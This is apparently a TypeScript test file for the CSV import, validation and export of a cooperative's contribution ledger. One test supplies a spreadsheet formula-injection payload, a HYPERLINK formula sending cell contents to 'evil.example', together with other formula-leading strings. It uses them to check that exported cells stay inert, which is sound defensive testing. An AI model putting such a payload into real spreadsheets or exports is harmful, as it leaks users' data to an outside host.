import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  contributionsToCsv,
  CSV_COLUMNS,
  importContributionsCsv,
  parseContributionCsv,
  parseCsv,
} from './csv.js';
import { foldValueEvents } from './state.js';
import { baseRates, draft, logged, ratedState } from './test-support.js';
import type { DraftContext } from './validation.js';

const HEADER = CSV_COLUMNS.join(',');
/** The header of files written before the commons resource had its column: still read. */
const TEN_COLUMNS = CSV_COLUMNS.filter((c) => c !== 'resource').join(',');
const context: DraftContext = {
  today: '2024-03-10',
  members: new Set(['ana', 'ben']),
  circles: new Set(['c1']),
  projects: new Set(['p1']),
  resources: new Set(),
  rates: foldValueEvents(baseRates).rates,
};

describe('RFC 4180 parsing', () => {
  it('reads quoted fields, escaped quotes, embedded commas and line breaks, CRLF and LF', () => {
    expect(parseCsv('a,"b ""c"", d",e\r\n"multi\r\nline",,x\n')).toEqual({
      ok: true,
      records: [
        { line: 1, fields: ['a', 'b "c", d', 'e'] },
        { line: 2, fields: ['multi\r\nline', '', 'x'] },
      ],
    });
    expect(parseCsv('\uFEFFa,b\r\n\r\nc,d')).toEqual({
      ok: true,
      records: [
        { line: 1, fields: ['a', 'b'] },
        { line: 3, fields: ['c', 'd'] },
      ],
    });
  });

  it('reports broken quoting with its line', () => {
    expect(parseCsv('a,b\r\n"open,c\r\n')).toEqual({
      ok: false,
      problem: { line: 2, field: '', message: 'a quoted field is never closed' },
    });
    expect(parseCsv('a,b"c\r\n')).toMatchObject({
      ok: false,
      problem: { line: 1, message: expect.stringContaining('a quote inside an unquoted field') },
    });
    expect(parseCsv('"a"b,c\r\n')).toMatchObject({
      ok: false,
      problem: { line: 1, message: expect.stringContaining('text after a closing quote') },
    });
  });

  it('writes what it reads', () => {
    const field = fc.string({ unit: fc.constantFrom('a', 'b', ',', '"', '\r\n', '\n', ' ', 'é') });
    fc.assert(
      fc.property(
        fc.array(fc.array(field, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
          const text = rows.map((r) => r.map(quote).join(',')).join('\r\n');
          const parsed = parseCsv(text);
          expect(parsed.ok && parsed.records.map((r) => r.fields)).toEqual(rows);
        },
      ),
    );
  });
});

describe('contribution import', () => {
  it('turns a good file into drafts', () => {
    const text = `${TEN_COLUMNS}\r\n2024-03-01,ana,care,1.5,hour,meeting,c1,,"weekly call, notes",https://pad.example/a https://pad.example/b\r\n2024-03-02,ben,livelihood,6,hour,development,,p1,,\r\n`;
    const result = importContributionsCsv(text, context);
    expect(result).toEqual({
      drafts: [
        {
          member: 'ana',
          stream: 'care',
          quantity: { milli: 1500n, unit: 'hour' },
          taskKind: 'meeting',
          date: '2024-03-01',
          circle: 'c1',
          description: 'weekly call, notes',
          evidence: ['https://pad.example/a', 'https://pad.example/b'],
        },
        {
          member: 'ben',
          stream: 'livelihood',
          quantity: { milli: 6000n, unit: 'hour' },
          taskKind: 'development',
          date: '2024-03-02',
          project: 'p1',
          description: '',
          evidence: [],
        },
      ],
    });
  });

  it('imports nothing from a file with mixed rows and reports every bad row', () => {
    const text = [
      TEN_COLUMNS,
      '2024-03-01,ana,care,1.5,hour,meeting,c1,,,', // line 2: good
      '2024-03-01,ana,care,-2,hour,meeting,c1,,,', // line 3: negative
      '2024-03-01,ana,care,0,hour,meeting,c1,,,', // line 4: zero
      '2024-03-02,ben,care,16,hour,meeting,c1,,,', // line 5: good
      '2024-03-02,ben,care,9,hour,meeting,c1,,,', // line 6: 25 h that day
      '2024-03-11,ana,care,1,hour,meeting,c1,,,', // line 7: future
      '2024-03-01,ana,fun,1,hour,meeting,c1,,,', // line 8: unknown stream
      '2024-03-01,ana,livelihood,1,hour,development,,p9,,', // line 9: unknown project
      '2024-03-01,ana,care,1,hour,meeting,c9,,,', // line 10: unknown circle
      '2019-06-01,ana,care,1,hour,meeting,c1,,,', // line 11: no rate then
      '2024-03-01,ana,love,200000,word,translation,c1,,,', // line 12: absurd word count
      '2024-03-01,ana,care,1,hour,meeting,c1,,', // line 13: a field short
    ].join('\r\n');
    const result = importContributionsCsv(text, context);
    expect(result).toEqual({
      problems: [{ line: 13, field: '', message: 'expected 10 fields, got 9' }],
    });

    const fixedShape = importContributionsCsv(text.replace(/,,$/, ',,,'), context);
    expect('drafts' in fixedShape).toBe(false);
    if (!('problems' in fixedShape)) return;
    expect(fixedShape.problems).toEqual([
      { line: 3, field: 'quantity', message: 'must be greater than 0; got -2' },
      { line: 4, field: 'quantity', message: 'must be greater than 0; got 0' },
      {
        line: 6,
        field: 'quantity',
        message:
          'ben would log 25 hours on 2024-03-02 (16 already logged + 9 here), over the limit of 24 hours per member per calendar day',
      },
      {
        line: 7,
        field: 'date',
        message:
          "2024-03-11 is after today, 2024-03-10 (in the DisCO's time zone): work can only be logged once it is done",
      },
      {
        line: 8,
        field: 'stream',
        message: 'unknown stream "fun"; expected one of livelihood, love, care',
      },
      { line: 9, field: 'project', message: 'unknown livelihood project "p9"' },
      { line: 10, field: 'circle', message: 'unknown circle "c9"' },
      {
        line: 11,
        field: 'task_kind',
        message:
          'no rate for stream care, task kind meeting, per hour, in force on 2019-06-01 (the first such rate takes effect on 2020-01-01)',
      },
      {
        line: 12,
        field: 'quantity',
        message: '200000 word is over the limit of 100000 word per contribution',
      },
    ]);
  });

  it('checks the header', () => {
    expect(
      parseContributionCsv(
        'date,member,stream,quantity,unit,task,circle,project,description,evidence\r\n',
      ),
    ).toEqual({
      ok: false,
      problems: [
        {
          line: 1,
          field: 'task',
          message:
            'unknown column "task"; the columns are date,member,stream,quantity,unit,task_kind,circle,project,resource,description,evidence',
        },
        { line: 1, field: 'task_kind', message: 'the header lacks the column task_kind' },
      ],
    });
    expect(importContributionsCsv('', context)).toMatchObject({
      problems: [{ line: 1, message: expect.stringContaining('the file is empty') }],
    });
  });

  it('exports contributions in the format it imports', () => {
    const state = ratedState();
    const d = {
      ...draft({ quantity: '2.25' }),
      description: 'said "hi", left\nearly',
      evidence: ['https://pad.example/x'],
    };
    const c = foldValueEvents([logged(state, 'c1', d)], state).contributions.get('c1')!;
    const text = contributionsToCsv([c]);
    expect(text.startsWith(`${HEADER}\r\n`)).toBe(true);
    expect(importContributionsCsv(text, context)).toEqual({ drafts: [d] });
  });

  it('exports and imports the commons resource a contribution is for, and reads files without that column', () => {
    const state = ratedState();
    const d = { ...draft({ stream: 'love' }), circle: undefined, resource: 'r1' };
    delete d.circle;
    const c = foldValueEvents([logged(state, 'c1', d)], state).contributions.get('c1')!;
    const text = contributionsToCsv([c]);
    expect(text.split('\r\n')[0]).toContain(',resource,');
    expect(importContributionsCsv(text, { ...context, resources: new Set(['r1']) })).toEqual({
      drafts: [d],
    });
    const older = `${HEADER.replace(',resource', '')}\r\n2024-03-01,ana,care,1,hour,meeting,c1,,,\r\n`;
    expect(importContributionsCsv(older, context)).toMatchObject({
      drafts: [{ member: 'ana', circle: 'c1' }],
    });
  });

  it('keeps cells that a spreadsheet would run as formulas inert, and reads them back unchanged', () => {
    const state = ratedState();
    const descriptions = [
      '=HYPERLINK("https://evil.example/?"&A1,"click")',
      '+1+2',
      '-2 hours of rework',
      '@SUM(A1:A9)',
      '\tindented',
      '\rcarriage',
      "'=already quoted",
      "'plain apostrophe",
      'safe = text',
    ];
    const records = descriptions.map((description, k) => {
      const d = { ...draft({ date: `2024-03-0${k + 1}` }), description };
      return foldValueEvents([logged(state, `c${k}`, d)], state).contributions.get(`c${k}`)!;
    });
    const text = contributionsToCsv(records);
    const parsed = parseCsv(text);
    if (!parsed.ok) throw new Error('the export must parse');
    const column = CSV_COLUMNS.indexOf('description');
    const cells = parsed.records.slice(1).map((r) => r.fields[column]!);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells.slice(0, 6).every((cell) => cell.startsWith("'"))).toBe(true);
    expect(cells.slice(7)).toEqual(["'plain apostrophe", 'safe = text']);
    const imported = importContributionsCsv(text, context);
    expect('drafts' in imported && imported.drafts.map((d) => d.description)).toEqual(descriptions);
  });

  it('leaves numbers and dates alone: only text cells are guarded', () => {
    const state = ratedState();
    const d = { ...draft({ quantity: '1.5' }), description: '-' };
    const c = foldValueEvents([logged(state, 'c1', d)], state).contributions.get('c1')!;
    const [, row] = contributionsToCsv([c]).split('\r\n');
    expect(row!.split(',').slice(0, 4)).toEqual(['2024-03-01', 'ana', 'care', '1.5']);
    expect(row).toContain(",'-,");
  });
});
